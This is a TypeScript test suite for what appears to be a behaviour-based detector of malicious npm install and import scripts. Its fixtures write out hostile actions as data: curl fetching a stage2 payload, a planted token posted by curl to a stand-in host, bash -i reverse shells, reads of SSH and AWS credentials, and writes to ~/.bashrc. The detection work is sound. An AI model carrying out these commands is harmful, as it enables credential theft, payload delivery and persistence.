import { fileURLToPath } from 'node:url';
import test from 'ava';
import type { TraceEvent } from '../../../src/events/types.js';
import { evaluatePolicy } from '../../../src/policy/evaluate-policy.js';
import { loadPolicies } from '../../../src/policy/load-policy.js';
import { CONTEXT, HOME, NPM, PROJECT, connect, dns, exec, file, imported, script } from './helpers.js';

const policy = await loadPolicies([fileURLToPath(new URL('../../../policies/default.yaml', import.meta.url))]);

function evaluate(events: readonly TraceEvent[]) {
  return evaluatePolicy(events, policy, CONTEXT);
}

function rules(events: readonly TraceEvent[]): string[] {
  return evaluate(events).map((finding) => finding.rule);
}

/** Findings other than the install-script one every npm-run script gives. */
function beyondScriptRun(events: readonly TraceEvent[]) {
  return evaluate(events).filter((finding) => finding.rule !== 'install-script');
}

/** npm (pid 100) running evil's postinstall: `sh -c "node install.js"` (200) -> node install.js (201). */
const npmRunsScript: TraceEvent[] = [
  exec(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install'], { pid: 100, parentPid: null, attribution: NPM, executable: '/usr/bin/node' }),
  exec(['sh', '-c', 'node install.js'], { pid: 200, parentPid: 100, executable: '/bin/sh' }),
  exec(['node', 'install.js'], { pid: 201, parentPid: 200, executable: '/usr/bin/node' }),
];

test('npm own work never produces a finding', (t) => {
  const events = [
    file(`${HOME}/.npmrc`, 'read', { attribution: NPM }),
    connect('203.0.113.5', 443, { attribution: NPM }),
    dns('registry.example', { attribution: NPM }),
    exec(['curl', 'https://example.com'], { attribution: NPM }),
    exec(['sh', '-c', 'true'], { attribution: NPM }),
    file('/tmp/npm-1234/x', 'write', { attribution: NPM }),
    file(`${HOME}/.bashrc`, 'write', { attribution: NPM }),
  ];
  t.deepEqual(evaluate(events), []);
});

test('a lifecycle script connecting to a public address is a high network finding', (t) => {
  const [finding, ...rest] = evaluate([connect('203.0.113.5', 443)]);
  t.deepEqual(rest, []);
  t.like(finding, {
    rule: 'network-connect',
    category: 'network',
    severity: 'high',
    phase: 'install',
    summary: 'opens a network connection to tcp 203.0.113.5:443',
    attribution: { package: 'evil', via: 'lifecycle-script' },
  });
  t.deepEqual(finding?.evidence, ['pid 200 connect tcp 203.0.113.5:443']);
});

test('connections to loopback addresses are not network findings', (t) => {
  t.deepEqual(rules([connect('127.0.0.1', 8080), connect('127.0.0.53', 53), connect('::1', 443), connect('::ffff:127.0.0.1', 80)]), []);
});

test('a connection to a public IPv6 address is a network finding', (t) => {
  const [finding] = evaluate([connect('2001:db8::5', 443)]);
  t.is(finding?.rule, 'network-connect');
  t.is(finding?.summary, 'opens a network connection to tcp [2001:db8::5]:443');
});

test('a connection made while importing the package is a finding of the import phase', (t) => {
  const [finding] = evaluate([connect('198.51.100.7', 80, { phase: 'import', attribution: imported('pkg') })]);
  t.like(finding, { rule: 'network-connect', phase: 'import', attribution: { package: 'pkg', via: 'import' } });
});

test('a DNS query by a package is a dns-query finding naming the looked-up name', (t) => {
  const [finding, ...rest] = evaluate([dns('exfil.example.com')]);
  t.deepEqual(rest, []);
  t.like(finding, { rule: 'dns-query', category: 'dns', severity: 'high', summary: 'looks up exfil.example.com in DNS' });
});

test('reading an SSH key is a critical credential-read finding', (t) => {
  const [finding, ...rest] = evaluate([file(`${HOME}/.ssh/id_rsa`, 'read')]);
  t.deepEqual(rest, []);
  t.like(finding, {
    rule: 'credential-read',
    category: 'credential-access',
    severity: 'critical',
    summary: `reads credentials at ${HOME}/.ssh/id_rsa`,
  });
});

test('reading another process environment is a credential-read finding', (t) => {
  t.deepEqual(rules([file('/proc/1/environ', 'read')]), ['credential-read']);
  t.deepEqual(rules([file('/proc/self/environ', 'read')]), ['credential-read']);
});

test('reading ~/.npmrc that goes nowhere is a medium npm-config-read; reading an SSH key is a critical credential-read', (t) => {
  t.deepEqual(evaluate([file(`${HOME}/.npmrc`, 'read')]).map((finding) => [finding.rule, finding.severity]), [['npm-config-read', 'medium']]);
  t.deepEqual(rules([file(`${HOME}/.ssh/id_ed25519`, 'read')]), ['credential-read']);
});

test('a planted token staged in a file, or handed to a program, is critical whatever read it', (t) => {
  const staged = { ...file('/tmp/.cache-x', 'write'), honeytoken: { token: 'npm-token', how: 'staged' as const } };
  const handed = { ...exec(['curl', '-d', 'npm_x', 'http://c.example']), honeytoken: { token: 'npm-token', how: 'handed' as const } };
  const findings = evaluate([staged, handed]);
  t.deepEqual(
    findings.filter((finding) => finding.severity === 'critical').map((finding) => [finding.rule, finding.summary]),
    [
      ['credential-staged', 'writes the planted npm-token into /tmp/.cache-x'],
      ['credential-handoff', 'hands the planted npm-token to another program (curl -d npm_x http://c.example)'],
    ],
  );
});

test('looking at a credential file without opening it is not reading it', (t) => {
  t.deepEqual(rules([file(`${HOME}/.ssh/id_rsa`, 'metadata', { operation: 'stat' })]), []);
});

test('a failed attempt to read credentials is still a finding, with the error in its evidence', (t) => {
  const [finding] = evaluate([file(`${HOME}/.aws/credentials`, 'read', { ok: false, error: 'ENOENT' })]);
  t.is(finding?.rule, 'credential-read');
  t.regex(finding?.evidence[0] ?? '', /failed: ENOENT/);
});

test('reading ordinary files is not a finding', (t) => {
  t.deepEqual(rules([file('/etc/passwd', 'read'), file(`${PROJECT}/node_modules/evil/index.js`, 'read'), file(`${HOME}/.profile`, 'read')]), []);
});

test('running curl is a downloader-spawn finding', (t) => {
  const [finding, ...rest] = beyondScriptRun([...npmRunsScript, exec(['curl', '-fsSL', 'https://x.example/stage2'], { pid: 202, parentPid: 201 })]);
  t.deepEqual(rest, []);
  t.like(finding, { rule: 'downloader-spawn', category: 'download', severity: 'high', summary: 'runs the downloader curl' });
  t.deepEqual(finding?.evidence, ['pid 202 exec /usr/bin/curl: curl -fsSL https://x.example/stage2']);
});

test('a downloader is recognised by its executable even under a disguised argv[0]', (t) => {
  t.deepEqual(rules([exec(['[kworker/0:1]', '-q', 'http://x.example/'], { executable: '/usr/bin/wget' })]), ['downloader-spawn']);
});

test('a downloader is recognised by its argv[0] even when the executable file has another name', (t) => {
  t.deepEqual(rules([exec(['curl', 'http://x.example/'], { executable: '/opt/tools/fetcher' })]), ['downloader-spawn']);
});

test('npm own sh -c wrapper of a lifecycle script is not a shell-spawn finding, only the low install-script one', (t) => {
  t.deepEqual(rules(npmRunsScript), ['install-script']);
});

test('a shell running a script file started by a lifecycle script is a shell-spawn finding', (t) => {
  const [finding, ...rest] = beyondScriptRun([
    ...npmRunsScript,
    exec(['bash', '/tmp/stage.sh'], { pid: 202, parentPid: 201, executable: '/bin/bash' }),
  ]);
  t.deepEqual(rest, []);
  t.like(finding, { rule: 'shell-spawn', category: 'spawn', severity: 'medium' });
  t.deepEqual(finding?.evidence, ['pid 202 exec /bin/bash: bash /tmp/stage.sh']);
});

test('an interactive shell started by a lifecycle script is a reverse-shell finding as well', (t) => {
  const events = [...npmRunsScript, exec(['bash', '-i'], { pid: 202, parentPid: 201, executable: '/bin/bash' })];
  t.deepEqual(
    beyondScriptRun(events).map((finding) => [finding.rule, finding.severity]),
    [
      ['shell-spawn', 'medium'],
      ['reverse-shell', 'critical'],
    ],
  );
});

test('a command run while importing the package is an import-spawn finding', (t) => {
  const events = [
    exec(['node', '-e', 'import("pkg")'], { pid: 10, parentPid: null, phase: 'import', attribution: imported('pkg'), executable: '/usr/bin/node' }),
    exec(['sh', '-c', 'id'], { pid: 11, parentPid: 10, phase: 'import', attribution: imported('pkg'), executable: '/bin/sh' }),
  ];
  t.deepEqual(rules(events), ['import-spawn']);
});

test('shells under make or node-gyp are compiling, not findings', (t) => {
  const events = [
    ...npmRunsScript,
    exec(['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], {
      pid: 300,
      parentPid: 200,
      executable: '/usr/bin/node',
    }),
    exec(['sh', '-c', 'python3 --version'], { pid: 301, parentPid: 300, executable: '/bin/sh' }),
    exec(['make', 'BUILDTYPE=Release'], { pid: 302, parentPid: 300 }),
    exec(['/bin/sh', '-c', 'g++ -o x.o x.cc'], { pid: 303, parentPid: 302, executable: '/bin/sh' }),
  ];
  t.deepEqual(beyondScriptRun(events), []);
});

test('writes inside the package own folder and its own caches are fine', (t) => {
  const events = [
    file(`${PROJECT}/node_modules/evil/build/Release/evil.node`, 'write'),
    file(`${PROJECT}/node_modules/evil`, 'write', { operation: 'mkdir' }),
    file(`${PROJECT}/node_modules/a/node_modules/pkg/out.txt`, 'write', { attribution: script('pkg') }),
    file(`${PROJECT}/node_modules/@scope/pkg/dist/x.js`, 'write', { attribution: script('@scope/pkg') }),
    file(`${HOME}/.cache`, 'write', { operation: 'mkdir' }),
    file(`${HOME}/.cache/evil/index.json`, 'write'),
    file(`${HOME}/.cache/@scope/pkg/blob`, 'write', { attribution: script('@scope/pkg') }),
    file(`${PROJECT}/node_modules/.cache/evil/babel.json`, 'write'),
    file('/dev/null', 'write'),
  ];
  t.deepEqual(rules(events), []);
});

test('a cache is known-good only for its own: another name\'s cache is weighed by cache-write, npm\'s written by anything but npm is outside', (t) => {
  t.deepEqual(rules([file(`${HOME}/.cache/go-build/ab/cd`, 'write')]), ['cache-write']);
  t.deepEqual(rules([file(`${PROJECT}/node_modules/.cache/babel-loader/x.json`, 'write')]), ['write-outside-package']);
  t.deepEqual(rules([file(`${HOME}/.npm/_cacache/tmp/abc`, 'write')]), ['write-outside-package']);
  const npm = exec(['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'install'], { executable: '/usr/local/bin/node', pid: 300, parentPid: 200 });
  t.deepEqual(rules([npm, file(`${HOME}/.npm/_cacache/tmp/abc`, 'write', { pid: 300 })]), []);
  t.deepEqual(rules([file(`${HOME}/.cache/x`, 'write', { operation: 'rename', target: `${HOME}/.cache` })]).sort(), ['cache-write', 'write-outside-package']);
});

test('a write to a shell rc file is write-outside-package and persistence-write', (t) => {
  const findings = evaluate([file(`${HOME}/.bashrc`, 'write')]);
  t.deepEqual(
    findings.map((finding) => [finding.rule, finding.severity]),
    [
      ['write-outside-package', 'high'],
      ['persistence-write', 'critical'],
    ],
  );
  t.like(findings[0], {
    rule: 'write-outside-package',
    category: 'file-write',
    severity: 'high',
    summary: `writes outside its own folder at ${HOME}/.bashrc`,
  });
});

test('a write to /tmp is write-outside-package', (t) => {
  t.deepEqual(rules([file('/tmp/x', 'write')]), ['write-outside-package']);
});

test('a write into another package folder is write-outside-package', (t) => {
  t.deepEqual(rules([file(`${PROJECT}/node_modules/lodash/index.js`, 'write', { attribution: script('evil') })]), ['write-outside-package']);
});

test('reading a file outside the package is not a write finding', (t) => {
  t.deepEqual(rules([file('/tmp/x', 'read')]), []);
});

test('a rename out of the package folder is write-outside-package and names both paths', (t) => {
  const source = `${PROJECT}/node_modules/evil/payload.sh`;
  const [finding] = evaluate([file(source, 'write', { operation: 'rename', target: `${HOME}/.bashrc` })]);
  t.is(finding?.rule, 'write-outside-package');
  t.true(finding?.summary.includes(`${HOME}/.bashrc`), finding?.summary);
  t.deepEqual(finding?.evidence, [`pid 200 rename ${source} -> ${HOME}/.bashrc (write)`]);
});

test('a rename within the package folder is fine', (t) => {
  const dir = `${PROJECT}/node_modules/evil`;
  t.deepEqual(rules([file(`${dir}/a.tmp`, 'write', { operation: 'rename', target: `${dir}/a.js` })]), []);
});

test('identical events collapse into one finding listing each distinct evidence line once', (t) => {
  const events = [
    connect('203.0.113.5', 443, { pid: 201 }),
    connect('203.0.113.5', 443, { pid: 201 }),
    connect('203.0.113.5', 443, { pid: 202 }),
  ];
  const findings = evaluate(events);
  t.is(findings.length, 1);
  t.deepEqual(findings[0]?.evidence, ['pid 201 connect tcp 203.0.113.5:443', 'pid 202 connect tcp 203.0.113.5:443']);
});

test('a finding keeps at most 10 evidence lines', (t) => {
  const events = Array.from({ length: 25 }, (_, index) => connect('203.0.113.5', 443, { pid: 1000 + index }));
  const findings = evaluate(events);
  t.is(findings.length, 1);
  t.is(findings[0]?.evidence.length, 10);
  t.is(findings[0]?.evidence[0], 'pid 1000 connect tcp 203.0.113.5:443');
});

test('the same behaviour in different phases or by different packages gives separate findings', (t) => {
  const findings = evaluate([
    connect('203.0.113.5', 443, { phase: 'install', attribution: script('evil') }),
    connect('203.0.113.5', 443, { phase: 'import', attribution: imported('evil') }),
    connect('203.0.113.5', 443, { phase: 'install', attribution: script('other') }),
  ]);
  t.deepEqual(
    findings.map((finding) => [finding.phase, finding.attribution.package, finding.attribution.via]),
    [
      ['install', 'evil', 'lifecycle-script'],
      ['import', 'evil', 'import'],
      ['install', 'other', 'lifecycle-script'],
    ],
  );
});

test('different destinations give different findings', (t) => {
  const findings = evaluate([connect('203.0.113.5', 443), connect('203.0.113.6', 443)]);
  t.deepEqual(
    findings.map((finding) => finding.summary),
    ['opens a network connection to tcp 203.0.113.5:443', 'opens a network connection to tcp 203.0.113.6:443'],
  );
});

test('no events give no findings', (t) => {
  t.deepEqual(evaluate([]), []);
});
